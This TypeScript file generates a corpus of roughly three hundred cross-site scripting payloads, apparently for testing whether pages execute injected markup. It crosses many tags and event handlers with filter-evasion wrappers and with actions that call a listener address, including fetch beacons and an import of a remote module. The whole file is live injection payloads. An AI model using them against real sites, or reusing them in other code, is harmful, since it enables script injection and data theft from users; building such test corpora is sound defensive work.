// Texts that run where a page takes text for markup, and tell a listener that they did.

/** Three hundred forms: tags × events × ways to hide them × what they call. `canary` is the address of the listener. */
export function scripts(canary: string): string[] {
  const acts = [
    'globalThis.ranHere=1',
    `fetch('${canary}/f')`,
    `new Image().src='${canary}/i'`,
    'alert(document.domain)',
    `import('${canary}/m.js')`,
  ]
  const elements = [
    (act: string) => `<script>${act}</script>`,
    (act: string) => `<img src=x onerror="${act}">`,
    (act: string) => `<svg onload="${act}">`,
    (act: string) => `<svg><script>${act}</script></svg>`,
    (act: string) => `<details open ontoggle="${act}">`,
    (act: string) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
    (act: string) => `<input autofocus onfocus="${act}">`,
    (act: string) => `<video><source onerror="${act}"></video>`,
    (act: string) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
    (act: string) => `<a href="javascript:${act}">x</a>`,
    (act: string) => `<form action="javascript:${act}"><button>x</button></form>`,
    (act: string) => `<object data="javascript:${act}"></object>`,
    (act: string) => `<body onpageshow="${act}">`,
    (act: string) =>
      `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${act}">`,
    (act: string) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  ]
  const disguises = [
    (html: string) => html,
    (html: string) => `"><'>${html}`,
    (html: string) => `</title></textarea></style>${html}<!--`,
    (html: string) => html.replace(/[a-z]+/, (name) => name.toUpperCase()).replace('=', '\n='),
  ]
  const markup = elements.flatMap((element) =>
    acts.flatMap((act) => disguises.map((disguise) => disguise(element(act)))),
  )
  const rest = [
    `javascript:${acts[0]}`,
    `JaVaScRiPt:${acts[1]}`,
    `java\tscript:${acts[2]}`,
    `data:text/html,<script>${acts[1]}</script>`,
    `{{constructor.constructor("${acts[0]}")()}}`,
    `\${${acts[0]}}`,
    `[x](javascript:${acts[0]})`,
    `![x](${canary}/p.png)`,
    `${canary}/picture.png`,
    `__proto__`,
  ]
  return [...markup, ...rest]
}
